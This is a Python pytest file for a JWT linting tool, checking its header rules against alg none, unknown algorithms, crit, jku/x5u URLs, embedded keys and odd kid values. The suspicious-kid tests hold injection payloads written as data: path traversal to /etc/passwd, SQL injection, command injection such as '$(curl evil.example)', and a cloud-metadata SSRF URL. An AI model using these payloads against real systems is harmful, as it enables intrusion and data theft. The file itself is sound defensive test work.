"""Header rules (JWT301-JWT310): what fires, what it says, and what must stay quiet."""

import base64
import json

import jwt
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jwcrypto import jwe, jwk, jws

import jwtlint
from jwtlint.engine import Applicability, Severity, registry

from tokens import NOW, seg

CLAIMS = {"sub": "1", "iat": NOW, "exp": NOW + 600}
SECRET = "k" * 32
RSA = jwk.JWK.generate(kty="RSA", size=2048)
EC = jwk.JWK.generate(kty="EC", crv="P-256")

# RFC 7515 Appendix A.1-A.4 and RFC 7520 §4.1 compact JWS, copied from latchset/jose
# tests/vectors (Apache-2.0), which reproduces the RFC examples (IETF Trust, BSD code components).
RFC7515_A1 = (
    "eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFt"
    "cGxlLmNvbS9pc19yb290Ijp0cnVlfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
)
RFC7515_PAYLOAD = "eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ"
RFC7515_A2_HEADER = "eyJhbGciOiJSUzI1NiJ9"  # {"alg":"RS256"}
RFC7515_A3 = (
    "eyJhbGciOiJFUzI1NiJ9." + RFC7515_PAYLOAD + ".DtEhU3ljbEg8L38VWAfUAqOyKAM6-Xx-F4GawxaepmXFCgfTjDxw5djxLa8ISlSA"
    "pmWQxfKTUJqPP3-Kg6NU1Q"
)
RFC7515_A4 = (
    "eyJhbGciOiJFUzUxMiJ9.UGF5bG9hZA.AdwMgeerwtHoh-l192l60hp9wAHZFVJbLfD_UxMi70cwnZOYaRI1bKPWROc-mZZqwqT2SI-KGDKB"
    "34XO0aw_7XdtAG8GaSwFKdCAPZgoXD2YBJZCPEX3xKpRwcdOO8KpEHwJjyqOgzDO7iKvU8vcnwNrmxYbSW9ERBXukOXolLzeO_Jn"
)
RFC7520_41_HEADER = "eyJhbGciOiJSUzI1NiIsImtpZCI6ImJpbGJvLmJhZ2dpbnNAaG9iYml0b24uZXhhbXBsZSJ9"
# RFC 7797 §4.2 as compact (ietf-jose/cookbook rfc7797/, Unlicense): b64 false, crit ["b64"].
RFC7797_HEADER = "eyJhbGciOiJIUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19"


def header_findings(text, **kw):
    return jwtlint.lint(text, now=NOW, select="header", **kw).findings


def only(text, name):
    found = [f for f in header_findings(text) if f.name == name]
    assert len(found) == 1, found
    return found[0]


def fires(text, name):
    return [f for f in header_findings(text) if f.name == name]


def hdr(header):
    """A token with this header (a dict, or raw JSON text) and ordinary claims."""
    h = seg(header.encode() if isinstance(header, str) else header)
    return f"{h}.{seg(CLAIMS)}.{seg(b'x' * 32)}"


def _self_signed_der():
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "jwtlint test")])
    start = datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc)
    cert = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(1).not_valid_before(start).not_valid_after(start + datetime.timedelta(days=30))
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    return cert.public_bytes(serialization.Encoding.DER)


X5C_DER = _self_signed_der()
X5C_DER_B64 = base64.b64encode(X5C_DER).decode()
PBES2 = jwk.JWK.from_password("correct horse battery staple")


def jwcrypto_jws(protected, key=EC, payload=b'{"sub":"1"}'):
    s = jws.JWS(payload)
    s.add_signature(key, None, json.dumps(protected))
    return s.serialize(compact=True)


def jwcrypto_jwe(protected, key=RSA):
    e = jwe.JWE(b'{"sub":"1"}', json.dumps(protected))
    e.add_recipient(key)
    return e.serialize(compact=True)


# --- the rule set itself ----------------------------------------------------------------------------------


def test_codes_names_and_default_severities():
    expected = [
        ("JWT301", "alg-missing", Severity.ERROR),
        ("JWT302", "alg-none", Severity.ERROR),
        ("JWT303", "alg-unknown", Severity.ERROR),
        ("JWT304", "typ-unusual", Severity.WARNING),
        ("JWT305", "crit-unsupported", Severity.ERROR),
        ("JWT306", "remote-key-url", Severity.WARNING),
        ("JWT307", "embedded-jwk", Severity.WARNING),
        ("JWT308", "suspicious-kid", Severity.WARNING),
        ("JWT309", "b64-false-without-crit", Severity.ERROR),
        ("JWT310", "zip-in-jws", Severity.ERROR),
        ("JWT311", "header-param-type", Severity.ERROR),
        ("JWT312", "b64-false-in-jwt", Severity.ERROR),
    ]
    got = [(r.code, r.name, r.severity) for r in registry().rules if r.family == "header"]
    assert got == expected


# --- no false alarms ----------------------------------------------------------------------------------------


def _ordinary_tokens():
    ec = EC.export_to_pem(private_key=True, password=None)
    rsa = RSA.export_to_pem(private_key=True, password=None)
    yield "pyjwt-hs256", jwt.encode(CLAIMS, SECRET, algorithm="HS256")
    yield "pyjwt-rs256-kid", jwt.encode(CLAIMS, rsa, algorithm="RS256", headers={"kid": RSA.thumbprint()})
    yield "pyjwt-ps512", jwt.encode(CLAIMS, rsa, algorithm="PS512")
    yield "pyjwt-es256-at+jwt", jwt.encode(CLAIMS, ec, algorithm="ES256", headers={"typ": "at+jwt", "kid": "2024-01-key"})
    yield "pyjwt-b64-false", jwt.api_jws.encode(b"payload", SECRET, algorithm="HS256", headers={"b64": False, "typ": None})
    yield "pyjwt-x5c", jwt.encode(CLAIMS, rsa, algorithm="RS256", headers={"x5c": [X5C_DER_B64]})
    yield "jwcrypto-pbes2-jwe", jwcrypto_jwe({"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2c": 1000}, PBES2)
    yield "jwcrypto-ecdh-jwe", jwcrypto_jwe({"alg": "ECDH-ES+A128KW", "enc": "A128GCM"}, EC)
    yield "jwcrypto-es256", jwcrypto_jws({"alg": "ES256", "kid": EC.thumbprint()})
    yield "jwcrypto-eddsa", jwcrypto_jws({"alg": "EdDSA"}, jwk.JWK.generate(kty="OKP", crv="Ed25519"))
    yield "jwcrypto-jwe", jwcrypto_jwe({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": "enc-1"})
    yield "jwcrypto-jwe-zip", jwcrypto_jwe({"alg": "RSA-OAEP", "enc": "A128CBC-HS256", "zip": "DEF"})
    yield "rfc7515-a1", RFC7515_A1
    yield "rfc7515-a2-header", hdr(json.loads('{"alg":"RS256"}'))
    yield "rfc7515-a3", RFC7515_A3
    yield "rfc7515-a4", RFC7515_A4
    yield "rfc7520-4.1-header", f"{RFC7520_41_HEADER}.{seg(CLAIMS)}.{seg(b'x' * 256)}"
    yield "rfc7797-4.2-header", f"{RFC7797_HEADER}..{seg(b'x' * 32)}"


ORDINARY = list(_ordinary_tokens())


@pytest.mark.parametrize("name,text", ORDINARY, ids=[n for n, _ in ORDINARY])
def test_ordinary_tokens_draw_no_header_finding(name, text):
    assert header_findings(text) == [], name


def test_a_header_that_is_not_an_object_is_left_to_segment_not_json():
    assert header_findings(f"{seg(['alg', 'HS256'])}.{seg(CLAIMS)}.{seg(b'x' * 32)}") == []


def test_every_finding_points_at_its_header_member():
    import base64

    text = hdr({"alg": "rs256", "typ": "JWS", "kid": "../x", "zip": "DEF", "jku": "http://a/b"})
    h = text.split(".")[0]
    found = header_findings(text)
    assert len(found) == 5
    member = {"alg-unknown": "alg", "typ-unusual": "typ", "suspicious-kid": "kid", "zip-in-jws": "zip",
              "remote-key-url": "jku"}
    for f in found:
        assert f.span.part == "header" and 0 <= f.span.start < f.span.end <= len(h)
        chunk = h[f.span.start : f.span.end]
        decoded = base64.urlsafe_b64decode(chunk + "=" * (-len(chunk) % 4))
        assert f'"{member[f.name]}"'.encode() in decoded, (f.name, decoded)
        assert f.fix


# --- alg-missing ----------------------------------------------------------------------------------------------


def test_alg_missing():
    f = only(hdr({}), "alg-missing")
    assert "no 'alg'" in f.message and f.severity == Severity.ERROR and '"alg"' in f.fix
    assert "no 'alg'" in only(hdr({"typ": "JWT"}), "alg-missing").message


@pytest.mark.parametrize("alg,kind", [(256, "a number"), (None, "null"), (["RS256"], "an array"), (True, "boolean")])
def test_alg_not_a_string(alg, kind):
    f = only(hdr({"alg": alg}), "header-param-type")
    assert kind in f.message and "a string" in f.message and "RFC 7515 §4.1.1" in f.message
    assert not fires(hdr({"alg": alg}), "alg-unknown") and not fires(hdr({"alg": alg}), "alg-missing")


def test_alg_as_a_huge_number_is_not_a_string():
    f = only(hdr('{"alg":' + "9" * 5000 + "}"), "header-param-type")
    assert "a number" in f.message and len(f.message) < 300


def test_jwe_without_enc():
    text = jwcrypto_jwe({"alg": "RSA-OAEP", "enc": "A128GCM"})
    parts = text.split(".")
    parts[0] = seg({"alg": "RSA-OAEP"})
    assert "no 'enc'" in only(".".join(parts), "alg-missing").message


# --- alg-none ---------------------------------------------------------------------------------------------------


def test_alg_none_unsecured_pyjwt():
    text = jwt.encode(CLAIMS, None, algorithm="none")
    f = only(text, "alg-none")
    assert "unsecured" in f.message and "forge" in f.message
    assert "none" in f.fix and "refuse" in f.fix
    assert not fires(text, "alg-unknown")


def test_alg_none_with_a_signature_attached():
    assert "never" in only(hdr({"alg": "none"}), "alg-none").message


@pytest.mark.parametrize("spelling", ["None", "NONE", "nOnE"])
def test_alg_none_in_other_cases(spelling):
    text = hdr({"alg": spelling}).rsplit(".", 1)[0] + "."
    f = only(text, "alg-none")
    assert repr(spelling) in f.message and "case-insensitively" in f.message
    assert not fires(text, "alg-unknown")


# --- alg-unknown -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "alg,meant",
    [("rs256", "RS256"), ("Rs256", "RS256"), ("HS-256", "HS256"), ("RSA256", "RS256"), ("HmacSHA256", "HS256"),
     ("es256k", "ES256K"), ("eddsa", "EdDSA")],
)  # fmt: skip
def test_alg_unknown_names_the_registered_one(alg, meant):
    f = only(hdr({"alg": alg}), "alg-unknown")
    assert f.fixed == meant and repr(meant) in f.message and repr(alg) in f.message
    assert f.applicability == Applicability.UNSAFE and "sign again" in f.fix


def test_alg_unknown_case_only_says_case_sensitive():
    assert "case-sensitive" in only(hdr({"alg": "rs256"}), "alg-unknown").message
    assert "case-sensitive" not in only(hdr({"alg": "RSA256"}), "alg-unknown").message


def test_alg_unknown_without_a_near_name():
    f = only(hdr({"alg": "SHA256withRSA"}), "alg-unknown")
    assert f.fixed is None and "did you mean" not in f.message


@pytest.mark.parametrize("alg", ["RS256", "PS384", "ES512", "ES256K", "EdDSA", "Ed25519", "Ed448", "HS512"])
def test_registered_jws_algs_are_known(alg):
    assert not fires(hdr({"alg": alg}), "alg-unknown")


def test_wrong_kind_of_algorithm():
    f = only(hdr({"alg": "RSA-OAEP-256"}), "alg-unknown")
    assert "JWE key-management" in f.message and f.fixed is None
    text = jwcrypto_jwe({"alg": "RSA-OAEP", "enc": "A128GCM"})
    parts = text.split(".")
    parts[0] = seg({"alg": "RS256", "enc": "A128GCM"})
    f = only(".".join(parts), "alg-unknown")
    assert "'RS256' is a JWS algorithm" in f.message and f.fixed is None


def test_jwe_enc_unknown():
    text = jwcrypto_jwe({"alg": "RSA-OAEP", "enc": "A128GCM"})
    parts = text.split(".")
    parts[0] = seg({"alg": "RSA-OAEP", "enc": "A256gcm"})
    f = only(".".join(parts), "alg-unknown")
    assert f.message.startswith("enc ") and f.fixed == "A256GCM"


# --- typ-unusual --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typ",
    ["JWT", "jwt", "application/jwt", "JOSE", "JOSE+JSON", "at+jwt", "application/at+JWT", "dpop+jwt",
     "secevent+jwt", "logout+jwt", "kb+jwt", "vc+sd-jwt", "dc+sd-jwt", "token-introspection+jwt"],
)  # fmt: skip
def test_typ_registered_values_are_fine(typ):
    assert not fires(hdr({"alg": "HS256", "typ": typ}), "typ-unusual")


@pytest.mark.parametrize("typ", ["JWS", "JWE", "Bearer", "JSON", "application/json", "JTW", " JWS"])
def test_typ_mistakes_warn_with_the_fix(typ):
    f = only(hdr({"alg": "HS256", "typ": typ}), "typ-unusual")
    assert f.severity == Severity.WARNING and f.fixed == "JWT" and repr(typ) in f.message


def test_typ_with_spaces():
    f = only(hdr({"alg": "HS256", "typ": "JWT "}), "typ-unusual")
    assert f.severity == Severity.WARNING and f.fixed == "JWT" and "whitespace" in f.message


def test_typ_unknown_is_info():
    f = only(hdr({"alg": "HS256", "typ": "urn:example:token"}), "typ-unusual")
    assert f.severity == Severity.INFO and f.fixed is None


@pytest.mark.parametrize("typ", [1, None, ["JWT"], {"v": "JWT"}])
def test_typ_not_a_string_is_an_error(typ):
    f = only(hdr({"alg": "HS256", "typ": typ}), "header-param-type")
    assert f.severity == Severity.ERROR and "a string" in f.message
    assert not fires(hdr({"alg": "HS256", "typ": typ}), "typ-unusual")


# --- crit-unsupported ----------------------------------------------------------------------------------------------


def test_crit_rfc7515_example_extension_is_an_error():
    # RFC 7515 §4.1.11's own example: a verifier that does not implement "exp" as a header extension
    # must reject the token, and jwtlint does not implement it.
    f = only(hdr({"alg": "ES256", "crit": ["exp"], "exp": 1363284000}), "crit-unsupported")
    assert f.severity == Severity.ERROR and "'exp'" in f.message and "must reject" in f.message
    assert "does not understand" in f.message


def test_crit_b64_is_understood():
    assert not fires(f"{RFC7797_HEADER}..{seg(b'x' * 32)}", "crit-unsupported")


def test_crit_empty():
    f = only(hdr({"alg": "HS256", "crit": []}), "crit-unsupported")
    assert f.severity == Severity.ERROR and "empty" in f.message
    assert not fires(hdr({"alg": "HS256", "crit": []}), "header-param-type")


@pytest.mark.parametrize("crit,what,fixed", [("b64", "a string", '["b64"]'), ([1], "an array", None), ({}, "an object", None)])
def test_crit_not_an_array_of_strings(crit, what, fixed):
    f = only(hdr({"alg": "HS256", "crit": crit, "b64": True}), "header-param-type")
    assert f.severity == Severity.ERROR and what in f.message and f.fixed == fixed
    assert not fires(hdr({"alg": "HS256", "crit": crit, "b64": True}), "crit-unsupported")


def test_crit_naming_registered_parameters():
    f = only(hdr({"alg": "HS256", "kid": "1", "crit": ["kid"]}), "crit-unsupported")
    assert f.severity == Severity.ERROR and "'kid'" in f.message and f.fixed is None and "remove crit" in f.fix
    found = fires(hdr({"alg": "HS256", "x": 1, "crit": ["alg", "x"]}), "crit-unsupported")
    assert [(f.severity, f.fixed) for f in found] == [(Severity.ERROR, '["x"]'), (Severity.ERROR, None)]


def test_crit_naming_an_absent_parameter_pyjwt():
    text = jwt.encode(CLAIMS, SECRET, algorithm="HS256", headers={"crit": ["nope"]})
    f = only(text, "crit-unsupported")
    assert f.severity == Severity.ERROR and "'nope'" in f.message and "does not contain" in f.message


def test_crit_duplicates():
    found = fires(hdr({"alg": "HS256", "x": 1, "crit": ["x", "x"]}), "crit-unsupported")
    assert "more than once" in found[0].message and found[0].fixed == '["x"]'


def test_crit_b64_is_allowed():
    assert not fires(hdr({"alg": "HS256", "b64": False, "crit": ["b64"]}), "crit-unsupported")


# --- remote-key-url ------------------------------------------------------------------------------------------------


def test_jku_https_is_a_warning_naming_the_url():
    url = "https://attacker.example/.well-known/jwks.json"
    text = jwt.encode(CLAIMS, RSA.export_to_pem(True, None), algorithm="RS256", headers={"jku": url})
    f = only(text, "remote-key-url")
    assert f.severity == Severity.WARNING and url in f.message and "never fetches" in f.message
    assert "allow-list" in f.fix


def test_x5u_over_http_is_an_error():
    f = only(hdr({"alg": "RS256", "x5u": "http://keys.example/cert.pem"}), "remote-key-url")
    assert f.severity == Severity.ERROR and "x5u" in f.message and "not https" in f.message


def test_jku_and_x5u_both_reported():
    found = fires(hdr({"alg": "RS256", "jku": "https://a/j", "x5u": "https://a/x"}), "remote-key-url")
    assert [f.message.split()[0] for f in found] == ["jku", "x5u"]


def test_jku_not_a_string():
    f = only(hdr({"alg": "RS256", "jku": ["https://a/j"]}), "header-param-type")
    assert f.severity == Severity.ERROR and f.fixed == "https://a/j"
    assert not fires(hdr({"alg": "RS256", "jku": ["https://a/j"]}), "remote-key-url")


def test_long_url_is_cut_short():
    f = only(hdr({"alg": "RS256", "jku": "https://a.example/" + "x" * 5000}), "remote-key-url")
    assert len(f.message) < 400


# --- embedded-jwk ---------------------------------------------------------------------------------------------------


def test_embedded_public_jwk_cve_2018_0114():
    text = jwcrypto_jws({"alg": "RS256", "jwk": RSA.export_public(as_dict=True)}, RSA)
    f = only(text, "embedded-jwk")
    assert f.severity == Severity.WARNING and "CVE-2018-0114" in f.message and "DPoP" in f.message


def test_embedded_jwk_in_a_dpop_proof_is_expected():
    text = jwcrypto_jws({"alg": "ES256", "typ": "dpop+jwt", "jwk": EC.export_public(as_dict=True)})
    assert not fires(text, "embedded-jwk")


@pytest.mark.parametrize("typ", [None, "dpop+jwt"])
def test_embedded_private_jwk_is_an_error_and_never_printed(typ):
    private = RSA.export_private(as_dict=True)
    header = {"alg": "RS256", "jwk": private} | ({"typ": typ} if typ else {})
    report = jwtlint.lint(hdr(header), now=NOW, select="embedded-jwk")
    (f,) = report.findings
    assert f.severity == Severity.ERROR and "d, p, q, dp, dq, qi" in f.message
    out = report.to_json()
    for member in ("d", "p", "q", "dp", "dq", "qi"):
        assert private[member] not in out


def test_embedded_symmetric_key():
    f = only(hdr({"alg": "HS256", "jwk": {"kty": "oct", "k": "c2VjcmV0LXNlY3JldA"}}), "embedded-jwk")
    assert f.severity == Severity.ERROR and "(k)" in f.message and "c2VjcmV0" not in f.message


def test_embedded_jwk_not_an_object():
    f = only(hdr({"alg": "RS256", "jwk": "AQAB"}), "header-param-type")
    assert f.severity == Severity.ERROR and "a JSON object" in f.message and f.fixed is None
    assert not fires(hdr({"alg": "RS256", "jwk": "AQAB"}), "embedded-jwk")


# --- suspicious-kid -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "kid,attack",
    [
        ("../../../../../../../dev/null", "path traversal"),
        ("keys/../../etc/passwd", "path traversal"),
        ("..\\..\\windows\\win.ini", "path traversal"),
        ("%2e%2e%2fsecret", "path traversal"),
        ("/dev/null", "path traversal"),
        ("/etc/jwt/private", "path traversal"),
        ("key\x00.pem", "NUL"),
        ("x' UNION SELECT 'ATTACKER';-- ", "SQL injection"),
        ("1 or 1=1", "SQL injection"),
        ("k1; DROP TABLE keys", "SQL injection"),
        ("key1|/usr/bin/uname", "command injection"),
        ("$(curl evil.example)", "command injection"),
        ("`id`", "command injection"),
        ("a && b", "command injection"),
        ("http://169.254.169.254/latest/meta-data/", "URL"),
        ("file:///etc/passwd", "URL"),
    ],
)
def test_kid_attacks_are_named(kid, attack):
    f = only(hdr({"alg": "HS256", "kid": kid}), "suspicious-kid")
    assert f.severity == Severity.WARNING and attack in f.message


def test_kid_with_two_kinds_names_both():
    f = only(hdr({"alg": "HS256", "kid": "../keys/k' OR '1'='1"}), "suspicious-kid")
    assert "path traversal" in f.message and "SQL injection" in f.message


def test_kid_https_url_is_only_noted():
    f = only(hdr({"alg": "RS256", "kid": "https://myvault.vault.azure.net/keys/signing/0123abcd"}), "suspicious-kid")
    assert f.severity == Severity.INFO and "Azure Key Vault" in f.message


@pytest.mark.parametrize(
    "kid",
    [
        "0d7c2b8e-6f7a-4b9e-9c55-1f2f3e4d5c6b",
        "NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs",  # RFC 7638 §3.1 thumbprint
        "/f3dGsyXW4OV1yYjSB8iKfpJwMJ0A8cXmS9mT7uVxq8=",  # standard base64 happens to start with '/'
        "--a9XhB8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs",  # base64url may start with '--'
        "2024-01-key",
        "key/1",
        "projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1",
        "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
        "did:web:example.com#key-1",
        "bilbo.baggins@hobbiton.example",
        "v1.2..3",
    ],
)
def test_ordinary_kids_are_quiet(kid):
    assert not fires(hdr({"alg": "RS256", "kid": kid}), "suspicious-kid")


@pytest.mark.parametrize("kid", [1, None, {"id": 1}])
def test_kid_not_a_string_is_header_param_type_not_suspicious_kid(kid):
    f = only(hdr({"alg": "RS256", "kid": kid}), "header-param-type")
    assert f.severity == Severity.ERROR and "RFC 7515 §4.1.4" in f.message
    assert not fires(hdr({"alg": "RS256", "kid": kid}), "suspicious-kid")


# --- b64-false-without-crit -----------------------------------------------------------------------------------------


def test_b64_false_without_crit():
    text = f"{seg({'alg': 'HS256', 'b64': False})}.payload.{seg(b'x' * 32)}"
    f = only(text, "b64-false-without-crit")
    assert f.severity == Severity.ERROR and f.fixed == '["b64"]' and f.applicability == Applicability.UNSAFE


def test_b64_false_with_other_crit_keeps_them():
    f = only(hdr({"alg": "HS256", "b64": False, "x": 1, "crit": ["x"]}), "b64-false-without-crit")
    assert f.fixed == '["x", "b64"]'


def test_b64_false_with_crit_from_pyjwt_is_fine():
    text = jwt.api_jws.encode(b"payload", SECRET, algorithm="HS256", headers={"b64": False})
    assert jwt.get_unverified_header(text)["crit"] == ["b64"]
    assert not fires(text, "b64-false-without-crit")


@pytest.mark.parametrize("value,fixed", [("false", "false"), ("True", "true"), (0, None), (None, None)])
def test_b64_not_a_boolean(value, fixed):
    f = only(hdr({"alg": "HS256", "b64": value, "crit": ["b64"]}), "header-param-type")
    assert "boolean" in f.message and "RFC 7797 §3" in f.message and f.fixed == fixed
    assert not fires(hdr({"alg": "HS256", "b64": value, "crit": ["b64"]}), "b64-false-without-crit")


def test_b64_true_without_crit_is_left_alone():
    assert not fires(hdr({"alg": "HS256", "b64": True}), "b64-false-without-crit")


# --- zip-in-jws --------------------------------------------------------------------------------------------------


def test_zip_in_jws():
    text = jwcrypto_jws({"alg": "ES256", "zip": "DEF"})
    f = only(text, "zip-in-jws")
    assert f.severity == Severity.ERROR and "'DEF'" in f.message and "JWE" in f.message and "remove zip" in f.fix


def test_zip_in_jwe_is_not_this_rule():
    assert not fires(jwcrypto_jwe({"alg": "RSA-OAEP", "enc": "A128GCM", "zip": "DEF"}), "zip-in-jws")


def test_zip_in_malformed_jwe_is_not_this_rule():
    text = jwcrypto_jwe({"alg": "RSA-OAEP", "enc": "A128GCM", "zip": "DEF"})
    assert not fires(text.rsplit(".", 1)[0], "zip-in-jws")  # 4 segments, but enc says JWE


# --- robustness ------------------------------------------------------------------------------------------------

_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
_MEMBERS = st.sampled_from(["alg", "enc", "typ", "crit", "jku", "x5u", "jwk", "kid", "b64", "zip", "exp", "x"])


@settings(max_examples=300, deadline=None)
@given(header=st.dictionaries(_MEMBERS, _JSON, max_size=6), parts=st.sampled_from([2, 3, 4, 5]))
def test_header_rules_never_crash(header, parts):
    text = ".".join([seg(header)] + [seg(b"x" * 16)] * (parts - 1))
    found = jwtlint.lint(text, now=NOW, select="header").findings
    assert all(f.name != "internal-error" and f.span.part == "header" for f in found)


# --- header-param-type -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name,value,fixed",
    [
        ("kid", 123, "123"),
        ("kid", 1.5, "1.5"),
        ("kid", ["key-1"], "key-1"),
        ("cty", True, None),
        ("x5t", {"v": 1}, None),
        ("x5t#S256", 7, "7"),
        ("x5u", None, None),
        ("p2c", "1000", "1000"),
        ("p2c", -1, None),
        ("epk", "AQAB", None),
    ],
)
def test_header_param_type_names_expected_and_found(name, value, fixed):
    f = only(hdr({"alg": "HS256", name: value}), "header-param-type")
    assert f.severity == Severity.ERROR and f.message.startswith(f"{name} is ") and "makes it" in f.message
    assert f.fixed == fixed
    assert (f.applicability == Applicability.UNSAFE) == (fixed is not None)
    text = hdr({"alg": "HS256", name: value})
    assert f.span == jwtlint.lint(text, now=NOW).targets[0].target.segments[0].member_span(name)


def test_kid_number_fix_shows_the_string():
    f = only(hdr({"alg": "HS256", "kid": 123}), "header-param-type")
    assert 'write "kid": "123"' in f.fix and "a number" in f.message and "a string" in f.message


def test_header_param_type_leaves_unregistered_members_alone():
    assert not fires(hdr({"alg": "HS256", "ver": 2, "x": [1], "url": 3}), "header-param-type")


def test_x5c_standard_base64_chain_is_fine():
    assert not fires(hdr({"alg": "RS256", "x5c": [X5C_DER_B64, X5C_DER_B64]}), "header-param-type")


def test_x5c_base64url_is_flagged_with_the_standard_spelling():
    url = base64.urlsafe_b64encode(X5C_DER).decode().rstrip("=")
    assert url != X5C_DER_B64.rstrip("=") or "-" in url or "_" in url or len(X5C_DER) % 3
    f = only(hdr({"alg": "RS256", "x5c": [X5C_DER_B64, url]}), "header-param-type")
    assert f.message.startswith("x5c[1] ") and "RFC 7515 §4.1.6" in f.message
    assert json.loads(f.fixed) == [X5C_DER_B64, X5C_DER_B64]


@pytest.mark.parametrize(
    "x5c,what",
    [
        ([], "an empty array"),
        ("MIIB", "a string"),
        ([1], "a number, not a base64 string"),
        (["-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"], "PEM armor"),
        (["not base64!"], "not base64"),
    ],
)
def test_x5c_shapes(x5c, what):
    f = only(hdr({"alg": "RS256", "x5c": x5c}), "header-param-type")
    assert what in f.message and f.severity == Severity.ERROR


def test_x5c_with_line_breaks():
    wrapped = "\n".join(X5C_DER_B64[i : i + 64] for i in range(0, len(X5C_DER_B64), 64))
    f = only(hdr({"alg": "RS256", "x5c": [wrapped]}), "header-param-type")
    assert "line breaks" in f.message and json.loads(f.fixed) == [X5C_DER_B64]


def test_header_param_type_on_a_jwe_header():
    text = jwcrypto_jwe({"alg": "RSA-OAEP", "enc": "A128GCM"})
    parts = text.split(".")
    parts[0] = seg({"alg": "RSA-OAEP", "enc": "A128GCM", "zip": 1})
    f = only(".".join(parts), "header-param-type")
    assert "RFC 7516 §4.1.3" in f.message


# --- b64-false-in-jwt --------------------------------------------------------------------------------------------

B64_CRIT = {"alg": "HS256", "b64": False, "crit": ["b64"]}


def unencoded(header, payload):
    return f"{seg(header)}.{payload}.{seg(b'x' * 32)}"


def test_b64_false_with_claims_payload_is_an_error():
    f = only(unencoded(B64_CRIT, '{"sub":"1","exp":1}'), "b64-false-in-jwt")
    assert f.severity == Severity.ERROR and "claims set" in f.message and "RFC 7797 §7" in f.message
    f = only(unencoded({**B64_CRIT, "typ": "JWT"}, '{"sub":"1"}'), "b64-false-in-jwt")
    assert "typ 'JWT'" in f.message and f.severity == Severity.ERROR


def test_b64_false_with_claim_checks_is_an_error():
    found = jwtlint.lint(unencoded(B64_CRIT, "$02"), now=NOW, select="header", audience="api").findings
    assert [(f.name, f.severity) for f in found] == [("b64-false-in-jwt", Severity.ERROR)]


def test_b64_false_typ_jwt_on_plain_content_pyjwt_warns():
    # PyJWT's JWS API writes typ JWT into every header, an unencoded one too: typ is the likely mistake.
    text = jwt.api_jws.encode(b"payload", SECRET, algorithm="HS256", headers={"b64": False})
    assert jwt.get_unverified_header(text)["typ"] == "JWT"
    f = only(text, "b64-false-in-jwt")
    assert f.severity == Severity.WARNING and '"typ": None' in f.fix


def test_b64_false_plain_content_is_clean():
    # RFC 7797 §4.2's header (ietf-jose/cookbook): detached as in §4.2, and attached with plain content
    # (its "$.02" has a '.', which a compact token cannot carry unencoded: RFC 7797 §5.2).
    attached = f"{RFC7797_HEADER}.$02 for coffee.{seg(b'x' * 32)}"
    assert jwtlint.lint(attached, now=NOW).targets[0].target.payload_unencoded
    assert header_findings(attached) == []
    assert header_findings(f"{RFC7797_HEADER}..{seg(b'x' * 32)}") == []


def test_b64_false_in_jwt_without_crit_is_one_finding_with_the_jwt_fix():
    found = fires(unencoded({"alg": "HS256", "typ": "JWT", "b64": False}, '{"sub":"1"}'), "b64-false-without-crit")
    assert len(found) == 1 and "must not use an unencoded payload" in found[0].message
    assert found[0].fixed is None and "adding crit would make it worse" in found[0].fix
    assert not fires(unencoded({"alg": "HS256", "typ": "JWT", "b64": False}, '{"sub":"1"}'), "b64-false-in-jwt")


def test_embedded_jwk_leaves_an_acme_request_alone_and_nothing_else():
    """RFC 8555 §6.2: an ACME newAccount request carries the account key as jwk in the protected
    header of a JSON-serialized JWS with url and nonce. The same jwk elsewhere is still flagged."""
    import json

    from jwcrypto import jwk as jwcrypto_jwk
    from jwcrypto import jws

    from jwtlint import lint

    key = jwcrypto_jwk.JWK.generate(kty="EC", crv="P-256")
    public = json.loads(key.export_public())

    def signed(protected: dict) -> str:
        s = jws.JWS(json.dumps({"termsOfServiceAgreed": True}).encode())
        s.add_signature(key, protected=json.dumps(protected))
        return s.serialize()  # flattened JSON serialization

    acme = {"alg": "ES256", "jwk": public, "nonce": "oFvnlFP1wIhRlYS2jTaXbA", "url": "https://acme.example/acme/new-account"}
    assert "embedded-jwk" not in lint(signed(acme)).names()
    no_nonce = {k: v for k, v in acme.items() if k != "nonce"}
    assert "embedded-jwk" in lint(signed(no_nonce)).names()
    compact = json.loads(signed(acme))
    as_compact = f"{compact['protected']}.{compact['payload']}.{compact['signature']}"
    assert "embedded-jwk" in lint(as_compact).names()  # ACME is never compact: an embedded key there is suspect
